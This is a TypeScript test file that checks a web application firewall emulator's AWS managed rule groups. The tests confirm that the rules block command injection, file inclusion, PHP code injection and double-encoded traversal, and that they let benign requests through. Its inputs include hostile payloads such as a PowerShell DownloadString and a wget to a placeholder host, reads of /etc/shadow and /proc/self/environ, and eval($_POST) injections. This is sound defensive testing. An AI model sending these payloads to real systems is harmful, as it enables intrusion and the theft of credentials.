// Managed groups on requests: Windows and POSIX command injection, Linux and POSIX file inclusion, PHP code injection,
// double-encoded traversal, and the ordinary requests each must let through (fields named like commands, prose).
import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { compileWebAcl, evaluate, MemoryRateCounter, type CompiledWebAcl } from '../../engine/index.js';
import type { WebAcl } from '../../engine/types.js';
import { request, resolver } from '../../engine/test-support.js';
import type { InspectedRequest } from '../../../../core/traffic.js';
import { managedRuleGroup } from '../catalog.js';

const compiled: CompiledWebAcl[] = [];
after(() => compiled.forEach((c) => c.dispose()));

function groupAcl(name: string): CompiledWebAcl {
  const g = managedRuleGroup('AWS', name)!;
  const acl: WebAcl = {
    Name: 'os',
    ARN: 'arn:aws:wafv2:us-east-1:123456789012:regional/webacl/os/1',
    DefaultAction: { Allow: {} },
    Rules: [
      {
        Name: name,
        Priority: 0,
        Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name: name } },
        OverrideAction: { None: {} },
      },
    ],
  };
  const c = compileWebAcl(
    acl,
    resolver({
      groups: { [`AWS/${name}`]: { Name: name, Rules: g.rules as WebAcl['Rules'], LabelNamespace: g.labelNamespace } },
    }),
  );
  compiled.push(c);
  return c;
}

/** The terminating rule's name, or '' when the request is allowed. */
function verdict(c: CompiledWebAcl, over: Partial<InspectedRequest>): string {
  const r = evaluate(c, request(over), { rateCounter: new MemoryRateCounter() });
  return r.action === 'BLOCK' ? (r.ruleGroupList[0]?.terminatingRule?.ruleId ?? '?') : '';
}
const query = (q: string) => ({ query: q });
const form = (body: string) => ({
  method: 'POST',
  headers: [['User-Agent', 'test'] as const, ['Content-Type', 'application/x-www-form-urlencoded'] as const],
  body: Buffer.from(body),
});
const cookie = (value: string) => ({ headers: [['Cookie', `session=1; last=${value}`] as const] });

test('Windows: cmd.exe commands after a separator and PowerShell cmdlets, in query arguments, body and cookies', () => {
  const c = groupAcl('AWSManagedRulesWindowsRuleSet');
  assert.equal(verdict(c, query('host=example.com%7C%7Cnslookup%20x')), 'WindowsShellCommands_QUERYARGUMENTS');
  assert.equal(verdict(c, query('q=%3Bcmd')), 'WindowsShellCommands_QUERYARGUMENTS');
  assert.equal(verdict(c, form('name=a&cmd=x%26dir%20c%3A%5C')), 'WindowsShellCommands_BODY');
  assert.equal(verdict(c, cookie('%7Cnetstat%20-a')), 'WindowsShellCommands_COOKIE');
  // A JSON body writes the separating line break as \n.
  assert.equal(verdict(c, form('{"q":"a\\nipconfig /all"}')), 'WindowsShellCommands_BODY');
  assert.equal(verdict(c, query('x=Invoke-Expression%20%24a')), 'PowerShellCommands_QUERYARGUMENTS');
  assert.equal(
    verdict(c, form("p=(New-Object Net.WebClient).DownloadString('http://x/a.ps1')")),
    'PowerShellCommands_BODY',
  );
  assert.equal(verdict(c, cookie('iex(%24x)')), 'PowerShellCommands_COOKIE');
  // Ordinary requests: a field named like a command, a command word without a separator, prose with & and |.
  assert.equal(verdict(c, form('name=alex&dir=asc&net=12&ping=on')), '');
  assert.equal(verdict(c, query('q=dir%20listing&sort=date')), '');
  assert.equal(verdict(c, form('comment=Tom+%26+Jerry+%7C+the+directory+of+cats')), '');
});

test('POSIX: commands after a separator, shell variables and system files, in query arguments and body', () => {
  const c = groupAcl('AWSManagedRulesUnixRuleSet');
  assert.equal(verdict(c, query('q=%3Bid%3B')), 'UNIXShellCommandsVariables_QUERYARGUMENTS');
  assert.equal(verdict(c, query('q=x%7Cwget%20http://x/s')), 'UNIXShellCommandsVariables_QUERYARGUMENTS');
  assert.equal(verdict(c, query('q=%60id%60')), 'UNIXShellCommandsVariables_QUERYARGUMENTS');
  assert.equal(verdict(c, form('a=1&b=echo%20%24HOME')), 'UNIXShellCommandsVariables_BODY');
  assert.equal(verdict(c, form('f=..%5C..%5Cetc%5Cpasswd')), 'UNIXShellCommandsVariables_BODY');
  assert.equal(verdict(c, form('f=%00/etc/shadow%00')), 'UNIXShellCommandsVariables_BODY');
  assert.equal(verdict(c, form('{"cmd":"x\\n/bin/ls -al"}')), 'UNIXShellCommandsVariables_BODY');
  // Fields named like utilities, and prose joining words with & or ;.
  assert.equal(verdict(c, form('name=x&id=5&sort=asc&head=1&cat=shoes')), '');
  assert.equal(verdict(c, form('comment=cats+%26+more%3B+dogs+%26+less')), '');
  // AWS's POSIX rules inspect query arguments and the body only.
  assert.equal(verdict(c, cookie('%3Bid%3B')), '');
});

test('Linux: file inclusion in the query string, the path and every header, with either separator', () => {
  const c = groupAcl('AWSManagedRulesLinuxRuleSet');
  assert.equal(verdict(c, query('f=....//....//etc/hosts')), 'LFI_QUERYSTRING');
  assert.equal(verdict(c, query('f=%252e%252e%255cetc%255cpasswd')), 'LFI_QUERYSTRING');
  assert.equal(verdict(c, cookie('..%5C..%5C..%5Cetc%5Cshadow')), 'LFI_HEADER');
  assert.equal(verdict(c, { uri: '/static/%2e%2e/%2e%2e/proc/self/environ' }), 'LFI_URIPATH');
  assert.equal(verdict(c, query('q=etc+and+passwd&page=2')), '');
});

test('PHP: code-running functions and phpinfo called, superglobals, in headers, query string and body', () => {
  const c = groupAcl('AWSManagedRulesPHPRuleSet');
  assert.equal(verdict(c, query('x=%3C%3Fphp%20phpinfo()%3B')), 'PHPHighRiskMethodsVariables_QUERYSTRING');
  assert.equal(verdict(c, form("n=','')); eval($_POST[x]); exit;")), 'PHPHighRiskMethodsVariables_BODY');
  assert.equal(
    verdict(c, { headers: [['User-Agent', 'x; assert (base64_decode($a))'] as const] }),
    'PHPHighRiskMethodsVariables_HEADER',
  );
  assert.equal(verdict(c, query('q=medieval+system+of+evaluation&page=2')), '');
});

test('core rule set: a traversal encoded twice is decoded twice', () => {
  const c = groupAcl('AWSManagedRulesCommonRuleSet');
  assert.equal(verdict(c, query('f=%255c..%255c..%255cboot.ini')), 'GenericLFI_QUERYARGUMENTS');
  assert.equal(verdict(c, form('f=%252e%252e%252fwin.ini')), 'GenericLFI_BODY');
  assert.equal(verdict(c, query('f=100%2525+sure')), '');
});
